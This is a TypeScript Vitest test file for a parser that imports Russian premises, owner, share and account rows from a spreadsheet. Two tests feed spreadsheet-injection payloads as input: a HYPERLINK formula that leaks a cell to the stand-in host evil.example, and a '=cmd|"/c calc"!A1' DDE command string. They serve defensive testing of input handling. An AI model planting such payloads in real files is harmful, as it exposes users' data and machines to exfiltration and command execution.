import { describe, expect, it } from 'vitest';

import { readHeader, templateHeader } from './columns.js';
import { problemMessage } from './problems.js';
import { parseImportRow } from './row.js';

const TODAY = '2026-12-03';
const HEADER = readHeader(templateHeader('ru'));

/** A row of the template's columns, filled from a partial record by Russian column name. */
function cells(values: Record<string, string>): string[] {
  return templateHeader('ru').map((name) => values[name] ?? '');
}

const FLAT = {
  Дом: 'ул. Малышева, д. 15',
  Подъезд: '1',
  Этаж: '2',
  'Номер помещения': '5',
  'Тип помещения': 'кв',
  'Общая площадь': '45,3',
  'Жилая площадь': '30,1',
};

const parse = (
  values: Record<string, string>,
  marks?: { position: number; kind: 'date' | 'formula' }[],
) =>
  parseImportRow(
    HEADER,
    { line: 7, cells: cells(values), ...(marks ? { marks } : {}) },
    {
      today: TODAY,
    },
  );

describe('premises import row', () => {
  it('should read a premise with a person owning it and an account', () => {
    const parsed = parse({
      ...FLAT,
      Фамилия: 'Иванова',
      Имя: 'Мария',
      Отчество: 'Петровна',
      Доля: '1/2',
      'Документ-основание': 'Договор купли-продажи от 01.02.2015',
      'Номер регистрации права': '66-66/001-66/001/200/2015-1/1',
      'Дата регистрации права': '12.02.2015',
      'Лицевой счёт': '100500',
      'Дата открытия счёта': '01.03.2015',
    });

    expect(parsed.problems).toEqual([]);
    expect(parsed.row).toEqual({
      line: 7,
      house: 'ул. Малышева, д. 15',
      premise: {
        kind: 'flat',
        number: '5',
        numberKey: '5',
        entrance: 1,
        floor: 2,
        areaTotal: '45.30',
        areaLiving: '30.10',
        cadastralNumber: null,
      },
      owner: {
        kind: 'person',
        key: 'иванова мария петровна',
        surname: 'Иванова',
        name: 'Мария',
        patronymic: 'Петровна',
      },
      right: {
        share: { numerator: 1, denominator: 2 },
        titleDocument: 'Договор купли-продажи от 01.02.2015',
        rightNumber: '66-66/001-66/001/200/2015-1/1',
        rightDate: '2015-02-12',
      },
      account: { number: null, localNumber: '100500', openedOn: '2015-03-01' },
    });
  });

  it('should read a premise alone, without owner or account', () => {
    const parsed = parse(FLAT);

    expect(parsed.problems).toEqual([]);
    expect(parsed.row?.owner).toBeNull();
    expect(parsed.row?.right).toBeNull();
    expect(parsed.row?.account).toBeNull();
  });

  it('should give an owner without a share the whole premise', () => {
    const parsed = parse({ ...FLAT, Фамилия: 'Иванов', Имя: 'Иван' });

    expect(parsed.row?.right?.share).toEqual({ numerator: 1, denominator: 1 });
  });

  it('should read an organisation owner by name and INN', () => {
    const parsed = parse({
      ...FLAT,
      'Вид собственника': 'ЮЛ',
      'Наименование организации': 'ООО «Ромашка»',
      ИНН: '7707083893',
    });

    expect(parsed.problems).toEqual([]);
    expect(parsed.row?.owner).toEqual({
      kind: 'company',
      key: 'inn:7707083893',
      name: 'ООО «Ромашка»',
      inn: '7707083893',
    });
  });

  it('should name every broken cell of a row with its column', () => {
    const parsed = parse({
      Дом: 'ул. Малышева, д. 15',
      'Номер помещения': '',
      'Тип помещения': 'гараж',
      'Общая площадь': 'сорок',
      'Кадастровый номер': '66:41',
      Фамилия: 'Иванов',
      Доля: '3/2',
      ЕЛС: '12345',
      'Дата открытия счёта': '32.01.2020',
    });

    expect(parsed.row).toBeNull();
    expect(parsed.problems.map((p) => [p.field, p.code])).toEqual([
      ['kind', 'kind_unknown'],
      ['number', 'required'],
      ['areaTotal', 'area_invalid'],
      ['cadastralNumber', 'cadastral_invalid'],
      ['name', 'required'],
      ['share', 'share_above_one'],
      ['accountNumber', 'account_invalid'],
      ['accountOpenedOn', 'date_invalid'],
    ]);
    expect(problemMessage(parsed.problems[0]!, 'ru')).toContain('гараж');
    expect(problemMessage(parsed.problems[0]!, 'en')).toContain('unknown premise kind');
  });

  it('should refuse a living area above the total area', () => {
    const parsed = parse({ ...FLAT, 'Общая площадь': '30', 'Жилая площадь': '45' });

    expect(parsed.problems).toMatchObject([{ field: 'areaLiving', code: 'living_above_total' }]);
  });

  it('should refuse a share or account given without an owner', () => {
    expect(parse({ ...FLAT, Доля: '1/2' }).problems).toMatchObject([
      { field: 'share', code: 'owner_missing' },
    ]);
    expect(parse({ ...FLAT, 'Лицевой счёт': '77' }).problems).toMatchObject([
      { field: 'localAccountNumber', code: 'owner_missing' },
    ]);
  });

  it('should refuse a person and an organisation on one row', () => {
    const parsed = parse({
      ...FLAT,
      Фамилия: 'Иванов',
      Имя: 'Иван',
      'Наименование организации': 'ООО «Ромашка»',
    });

    expect(parsed.problems).toMatchObject([{ field: 'organisationName', code: 'owner_mixed' }]);
  });

  it('should refuse an organisation owner without a valid INN', () => {
    const parsed = parse({
      ...FLAT,
      'Вид собственника': 'МО',
      'Наименование организации': 'Администрация города',
    });

    expect(parsed.problems).toMatchObject([{ field: 'inn', code: 'required' }]);
  });

  it('should read a full-name column when the name parts are absent', () => {
    const header = readHeader(['Дом', 'Номер', 'Тип', 'ФИО собственника', 'Доля']);
    const parsed = parseImportRow(
      header,
      { line: 2, cells: ['Малышева 15', '3', 'кв', 'Петров Пётр Петрович', '1'] },
      { today: TODAY },
    );

    expect(parsed.row?.owner).toMatchObject({ surname: 'Петров', patronymic: 'Петрович' });
  });

  it('should refuse a formula in a name, never store it', () => {
    const parsed = parse({
      ...FLAT,
      Фамилия: '=HYPERLINK("http://evil.example/?leak="&A1,"Иванов")',
      Имя: 'Иван',
    });

    expect(parsed.row).toBeNull();
    expect(parsed.problems).toMatchObject([{ field: 'surname', code: 'name_invalid' }]);
  });

  it('should keep formula-like free text as plain text', () => {
    const parsed = parse({
      ...FLAT,
      'Вид собственника': 'ЮЛ',
      'Наименование организации': '=cmd|"/c calc"!A1',
      ИНН: '7707083893',
    });

    expect(parsed.problems).toEqual([]);
    expect(parsed.row?.owner).toMatchObject({ name: '=cmd|"/c calc"!A1' });
  });

  it('should explain a share that Excel turned into a date', () => {
    const position = HEADER.positions.share!;
    const parsed = parse({ ...FLAT, Фамилия: 'Иванов', Имя: 'Иван', Доля: '2026-01-02' }, [
      { position, kind: 'date' },
    ]);

    expect(parsed.problems).toMatchObject([
      { field: 'share', code: 'excel_date', params: { value: '02.01.2026' } },
    ]);
  });

  it('should accept an Excel date in a date column', () => {
    const position = HEADER.positions.rightDate!;
    const parsed = parse(
      { ...FLAT, Фамилия: 'Иванов', Имя: 'Иван', 'Дата регистрации права': '2015-02-12' },
      [{ position, kind: 'date' }],
    );

    expect(parsed.row?.right?.rightDate).toBe('2015-02-12');
  });

  it('should report a formula cell without a saved value', () => {
    const position = HEADER.positions.areaTotal!;
    const parsed = parse({ ...FLAT, 'Общая площадь': '' }, [{ position, kind: 'formula' }]);

    expect(parsed.problems).toMatchObject([{ field: 'areaTotal', code: 'formula_without_value' }]);
  });

  it('should turn a line the CSV parser gave up on into a row problem', () => {
    const parsed = parseImportRow(
      HEADER,
      { line: 9, error: 'Invalid Closing Quote' },
      {
        today: TODAY,
      },
    );

    expect(parsed).toMatchObject({
      line: 9,
      row: null,
      problems: [{ field: null, code: 'malformed_row' }],
    });
  });

  it('should warn about a living area of a premise that is not a flat', () => {
    const parsed = parse({ ...FLAT, 'Тип помещения': 'нп' });

    expect(parsed.problems).toEqual([]);
    expect(parsed.warnings).toMatchObject([{ field: 'areaLiving', code: 'living_area_not_flat' }]);
  });
});

describe('premises import row shape', () => {
  it('should refuse a row with values beyond the header, as a stray delimiter leaves', () => {
    const header = readHeader(['Дом', 'Номер', 'Тип', '']);
    const parsed = parseImportRow(
      header,
      { line: 4, cells: ['Малышева 15', '3', 'кв', '', 'лишнее'] },
      { today: TODAY },
    );

    expect(parsed.problems).toMatchObject([
      { field: null, code: 'extra_cells', params: { cells: 5, columns: 3 } },
    ]);
    expect(
      parseImportRow(
        header,
        { line: 4, cells: ['Малышева 15', '3', 'кв', '', ''] },
        { today: TODAY },
      ).problems,
    ).toEqual([]);
  });
});
